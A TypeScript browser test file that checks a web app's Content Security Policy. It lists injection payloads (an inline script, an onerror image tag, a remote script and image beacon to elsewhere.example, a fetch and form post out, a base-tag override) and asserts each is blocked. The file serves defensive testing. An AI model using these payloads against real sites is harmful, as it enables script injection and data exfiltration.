import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { serveProvince, type ServedProvince } from './province.ts'
import * as visit from './visit.ts'

let province: ServedProvince
let browser: Browser
beforeAll(async () => {
  ;[province, browser] = await Promise.all([serveProvince(), visit.openBrowser()])
})
afterAll(async () => {
  await browser?.close()
  await province?.close()
})

// what somebody who got text into a page would try, as texts because tests are checked without the types of a browser
const ATTACKS: [string, string, string][] = [
  [
    'an inline script',
    'require-trusted-types-for',
    `const made = document.createElement('script'); made.append('globalThis.done = true'); document.head.append(made)`,
  ],
  ['a handler in an attribute', 'require-trusted-types-for', `document.body.setAttribute('onclick', 'done = true')`],
  ['markup', 'require-trusted-types-for', `document.body.innerHTML = '<img src=x onerror="done = true">'`],
  ['text as program', 'require-trusted-types-for', `setTimeout('globalThis.done = true')`],
  [
    'a script from elsewhere',
    'require-trusted-types-for',
    `document.head.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/a.js' }))`,
  ],
  [
    'a picture that carries names away',
    'img-src',
    `document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/?Kín' }))`,
  ],
  ['a request to elsewhere', 'connect-src', `fetch('https://elsewhere.example/').catch(() => 0)`],
  [
    'a form that leads elsewhere',
    'form-action',
    `const form = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/' });
     document.body.append(form); form.submit()`,
  ],
  ['another base for links', 'base-uri', `document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }))`],
  ['a frame', 'frame-src', `document.body.append(Object.assign(document.createElement('iframe'), { src: '/' }))`],
] // prettier-ignore

test('what gets into a page cannot run, lead or carry anything elsewhere', async () => {
  const { page, complaints } = await visit.openVisit(browser, province.origin)
  await visit.signIn(page)
  await visit.settled(page)
  expect(complaints).toEqual([])
  for (const [what, directive, attack] of ATTACKS) {
    complaints.length = 0
    await page.evaluate(`(() => { try { ${attack} } catch {} })()`)
    await expect
      .poll(() => complaints.some((complaint) => complaint.includes(`policy: ${directive}`)), { message: what })
      .toBe(true)
    expect(await page.evaluate('globalThis.done'), what).toBeUndefined()
  }
})

test('another page cannot show this one in a frame', async () => {
  const { page } = await visit.openVisit(browser, province.origin)
  await page.setContent(`<iframe src="${province.origin}/dang-nhap"></iframe>`)
  await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
})
